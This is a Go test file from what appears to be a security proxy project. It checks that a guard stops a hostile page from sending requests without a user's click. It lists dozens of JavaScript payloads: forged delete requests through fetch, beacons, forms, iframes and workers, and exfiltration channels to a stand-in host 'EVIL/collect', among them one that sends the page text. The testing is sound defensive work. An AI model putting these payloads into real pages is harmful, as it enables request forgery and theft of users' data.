package attack

import (
	"net/http"
	"strings"
	"testing"

	"github.com/sallyport-dev/sallyport/internal/action"
)

// ways in which a page sends something without anybody's click. Each names
// itself: "write" deletes the ticket of that name at the page's own application,
// "read" carries the name to the attacker. W and R are the two addresses.
var ways = []struct{ name, script string }{
	{"fetch", `fetch(W, {method: 'POST', body: form()})`},
	{"fetch-keepalive", `fetch(W, {method: 'POST', body: form(), keepalive: true})`},
	{"xhr", `const x = new XMLHttpRequest; x.open('POST', W); x.send(form())`},
	{"xhr-sync", `const x = new XMLHttpRequest; x.open('POST', W, false); x.send(form())`},
	{"beacon", `navigator.sendBeacon(W, form())`},
	{"form-submit", `aForm(W).submit()`},
	{"form-request-submit", `aForm(W).requestSubmit()`},
	{"button-click", `aForm(W).querySelector('button').click()`},
	{"button-event", `aForm(W).querySelector('button').dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}))`},
	{"input-enter", `const f = aForm(W); f.innerHTML += '<input name=x autofocus>'; f.elements.x.focus(); f.elements.x.dispatchEvent(new KeyboardEvent('keydown', {key: 'Enter', bubbles: true})); f.requestSubmit()`},
	{"pagehide", `const f = frame(); f.contentWindow.addEventListener('pagehide', () => navigator.sendBeacon(W, form())); f.remove()`},
	{"srcdoc", `frame().srcdoc = '<script>fetch("' + W + '", {method: "POST", body: new URLSearchParams({_csrf: "x"})})<\/script>'`},
	{"sandboxed", `const f = document.createElement('iframe'); f.sandbox = 'allow-scripts allow-forms'; f.srcdoc = '<form method=post action="' + W + '"></form><script>document.forms[0].submit()<\/script>'; document.body.append(f)`},
	{"data-frame", `frame().src = 'data:text/html,<form method=post action="' + W + '"></form><script>document.forms[0].submit()<\/script>'`},
	{"blob-frame", `frame().src = URL.createObjectURL(new Blob(['<script>fetch("' + W + '", {method: "POST"})<\/script>'], {type: 'text/html'}))`},
	{"javascript-frame", `frame().src = 'javascript:fetch("' + W + '",{method:"POST"})'`},
	{"written-frame", `const d = frame().contentDocument; d.open(); d.write('<script>fetch("' + W + '", {method: "POST"})<\/script>'); d.close()`},
	{"isolated-realm", `frame().contentWindow.fetch(W, {method: 'POST'})`},
	{"worker", `new Worker(URL.createObjectURL(new Blob(['fetch("' + W + '", {method: "POST"})'])))`},
	{"nested-worker", `new Worker(URL.createObjectURL(new Blob(['new Worker(URL.createObjectURL(new Blob([\'fetch("' + W + '", {method: "POST"})\'])))'])))`},
	{"shared-worker", `new SharedWorker('/static/worker.js?' + encodeURIComponent(W))`},
	{"service-worker", `navigator.serviceWorker.register('/static/worker.js?' + encodeURIComponent(W))`},
	{"method-delete", `fetch(W, {method: 'DELETE'})`},
	{"method-put", `fetch(W, {method: 'PUT', body: 'x'})`},
	{"cross-origin-form", `aForm(W.replace(location.origin, 'IAM')).submit()`},
	{"cross-origin-no-cors", `fetch(W.replace(location.origin, 'IAM'), {method: 'POST', mode: 'no-cors', credentials: 'include', body: form()})`},
	{"timer", `setTimeout(() => fetch(W, {method: 'POST'}), 200)`},
	{"animation", `requestAnimationFrame(() => fetch(W, {method: 'POST'}))`},

	{"read-fetch", `fetch(R, {mode: 'no-cors'})`},
	{"read-beacon", `navigator.sendBeacon(R, document.body.innerText)`},
	{"read-image", `new Image().src = R`},
	{"read-css", `const s = document.createElement('style'); s.textContent = 'body{background:url(' + R + ')}'; document.head.append(s)`},
	{"read-stylesheet", `link({rel: 'stylesheet', href: R})`},
	{"read-font", `new FontFace('x', 'url(' + R + ')').load()`},
	{"read-script", `const s = document.createElement('script'); s.src = R; document.body.append(s)`},
	{"read-import", `import(R)`},
	{"read-media", `new Audio(R).load()`},
	{"read-track", `document.body.insertAdjacentHTML('beforeend', '<video src="' + R + '"></video>')`},
	{"read-object", `document.body.insertAdjacentHTML('beforeend', '<object data="' + R + '"></object>')`},
	{"read-embed", `document.body.insertAdjacentHTML('beforeend', '<embed src="' + R + '">')`},
	{"read-frame", `frame().src = R`},
	{"read-svg", `document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + R + '"/></svg>')`},
	{"read-event-source", `new EventSource(R)`},
	{"read-web-socket", `new WebSocket(R.replace('https', 'wss'))`},
	{"read-prefetch", `link({rel: 'prefetch', href: R})`},
	{"read-preload", `link({rel: 'preload', as: 'image', href: R})`},
	{"read-module-preload", `link({rel: 'modulepreload', href: R})`},
	{"read-manifest-worker", `new Worker(URL.createObjectURL(new Blob(['importScripts("' + R + '")'])))`},
	{"read-ping", `const a = document.createElement('a'); a.href = '#x'; a.ping = R; document.body.append(a); a.click()`},
	{"read-redirect", `fetch('/static/redirect?' + encodeURIComponent(R), {mode: 'no-cors'})`},
	{"read-meta-refresh", `frame().srcdoc = '<meta http-equiv=refresh content="0;url=' + R + '">'`},
	{"read-form-get", `const f = aForm(R); f.method = 'get'; f.innerHTML = '<input name=way value="read-form-get">'; f.submit()`},
	{"read-popup", `window.open(R)`},
	{"read-frame-popup", `frame().contentWindow.location = R`},
}

// A script in a ticket tries every way that a page has to send something, in
// every kind of document and worker, as soon as it is opened. Nothing that
// writes may reach any application and nothing may reach the attacker: door 2
// sees them all, whatever sent them. That a way was really tried is in the
// ledger, by its name.
//
// Threats: T13, T14, H3, H7 (grant, guardrail)
func TestPageTriesEveryWayToSend(t *testing.T) {
	var s strings.Builder
	s.WriteString(`(() => {
const form = () => new URLSearchParams({_csrf: document.querySelector('meta[name=csrf-token]').content});
const frame = () => { const f = document.createElement('iframe'); f.style.display = 'none'; document.body.append(f); return f };
const link = p => document.head.append(Object.assign(document.createElement('link'), p));
const aForm = to => { const t = frame(); t.name = 't' + Math.random(); const f = document.createElement('form'); f.method = 'post'; f.action = to; f.target = t.name; f.innerHTML = '<input type=hidden name=_csrf value=x><button>x</button>'; document.body.append(f); return f };
`)
	for _, w := range ways {
		s.WriteString("try { const W = location.origin + '/tickets/way-" + w.name + "/delete', R = 'EVIL/collect?way=" + w.name + "'; " + w.script + " } catch (e) {}\n")
	}
	s.WriteString("})()")
	r, tap := hostile(t, s.String(), func(w http.ResponseWriter, r *http.Request) bool {
		switch r.URL.Path {
		case "/static/worker.js":
			w.Header().Set("Content-Type", "text/javascript")
			w.Write([]byte(`fetch(decodeURIComponent(self.location.search.slice(1)), {method: 'POST'})`))
		case "/static/redirect":
			w.Header().Set("Location", mustUnescape(r.URL.RawQuery))
			w.WriteHeader(http.StatusTemporaryRedirect)
		default:
			return false
		}
		return true
	})
	ds := visit(t, r, "wait:2500")
	tried := map[string]bool{}
	for _, d := range ds {
		q := d.Action.Request
		if q == nil {
			continue
		}
		for _, w := range ways {
			if strings.Contains(q.Path, "/way-"+w.name+"/") || strings.Contains("&"+q.Query+"&", "way="+w.name+"&") {
				tried[w.name] = true
				if d.Decision.Verdict == action.Allow && q.Method != http.MethodOptions {
					t.Errorf("%s was let through: %s %s%s", w.name, q.Method, q.Origin, q.Path)
				}
			}
		}
	}
	for _, w := range ways {
		if !tried[w.name] {
			t.Errorf("%s left no trace: it was not tried, or it went another way", w.name)
		}
	}
	for _, x := range tap.arrived(wrote) {
		t.Errorf("reached an application: %s %s%s", x.method, x.host, x.uri)
	}
	for _, x := range tap.arrived(func(x request) bool { return strings.Contains(x.host, "evil") }) {
		t.Errorf("reached the attacker: %s %s", x.method, x.uri)
	}
}
